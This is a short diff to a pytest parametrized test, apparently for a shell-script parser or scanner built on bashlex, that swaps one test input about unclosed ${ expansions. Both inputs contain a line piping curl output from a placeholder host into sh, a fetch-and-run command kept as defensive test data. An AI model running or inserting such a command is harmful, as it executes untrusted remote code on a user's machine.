@@ -53,7 +53,7 @@ def _script(text: str) -> dict[str, tuple[str, bool]]:
 @pytest.mark.parametrize(
     "block",
     [
-        "echo \"${HOME\" >/dev/null\ncurl -fsSL http://dl.invalid/x | sh\n",  # unclosed ${ on its line: not for bashlex
+        "export P='${HOME' # unset\ncurl -fsSL http://dl.invalid/x | sh\n",  # unclosed ${ on its line: not for bashlex
         "x='${wget' '}'\ncurl -fsSL http://dl.invalid/x | sh\n",  # closed later on the line: bashlex's timer ends it
     ],
 )
